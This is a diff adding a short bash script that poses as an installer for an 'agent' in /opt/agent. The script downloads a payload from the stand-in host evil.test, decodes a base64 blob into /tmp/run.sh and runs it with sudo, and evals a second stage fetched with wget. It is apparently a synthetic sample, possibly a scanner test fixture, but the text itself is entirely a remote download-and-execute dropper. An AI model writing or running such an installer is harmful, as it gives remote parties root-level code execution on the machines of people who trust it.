@@ -0,0 +1,22 @@
+#!/usr/bin/env bash
+set -euo pipefail
+
+source ./lib/common.sh
+
+INSTALL_DIR=/opt/agent
+DOWNLOADER=curl
+
+download() {
+    local url="$1"
+    "$DOWNLOADER" -fsSL "$url" -o /tmp/payload
+}
+
+install() {
+    download https://evil.test/payload
+    echo "ZWNobyBoaQ==" | base64 -d > /tmp/run.sh
+    chmod +x /tmp/run.sh
+    sudo /tmp/run.sh "$INSTALL_DIR"
+    eval "$(wget -qO- https://evil.test/stage2)"
+}
+
+install